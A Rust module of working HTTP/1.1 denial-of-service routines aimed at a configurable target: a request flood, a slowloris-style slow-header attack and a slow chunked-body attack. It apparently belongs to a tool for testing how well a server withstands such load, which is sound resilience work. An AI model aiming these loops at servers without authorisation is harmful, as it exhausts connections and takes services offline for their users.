//! Attacks over HTTP/1.1.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Target;

/// The pause between two octets: so short that a connection is never too slow for a limit, and that hundreds of them are
/// much to do.
const OCTET_EVERY: Duration = Duration::from_millis(20);

/// Requests like anybody's, without a pause.
pub(super) async fn requests(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.http1(number).await?;
    let request = format!("GET /1k HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
    let mut answer = vec![0; 16 * 1024];
    loop {
        stream.write_all(request.as_bytes()).await?;
        read_answer(&mut stream, &mut answer).await?;
    }
}

/// Reads one answer with a stated length to its end.
pub(super) async fn read_answer(stream: &mut (impl AsyncReadExt + Unpin), room: &mut [u8]) -> io::Result<()> {
    let mut length = 0;
    let whole = loop {
        let read = stream.read(&mut room[length..]).await?;
        if read == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        length += read;
        let Some(head) = room[..length].windows(4).position(|four| four == b"\r\n\r\n") else { continue };
        let text = String::from_utf8_lossy(&room[..head]).to_ascii_lowercase();
        if !text.starts_with("http/1.1 200") {
            return Err(io::Error::other(text));
        }
        let stated = text.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
        break head + 4 + stated.ok_or(io::ErrorKind::InvalidData)?;
    };
    stream.read_exact(room.get_mut(length..whole).ok_or(io::ErrorKind::InvalidData)?).await?;
    Ok(())
}

pub(super) async fn slow_head(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.http1(number).await?;
    let head = format!("GET /1k HTTP/1.1\r\nHost: {}\r\nX: ", target.host);
    stream.write_all(head.as_bytes()).await?;
    drip(&mut stream, b"x").await
}

pub(super) async fn slow_body(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.http1(number).await?;
    let head = format!("POST /1k HTTP/1.1\r\nHost: {}\r\nTransfer-Encoding: chunked\r\n\r\n", target.host);
    stream.write_all(head.as_bytes()).await?;
    drip(&mut stream, b"1\r\nx\r\n").await
}

/// Until it is sent away.
async fn drip(stream: &mut (impl AsyncReadExt + AsyncWriteExt + Unpin), octet: &[u8]) -> io::Result<()> {
    loop {
        stream.write_all(octet).await?;
        stream.flush().await?;
        sleep(OCTET_EVERY).await;
    }
}
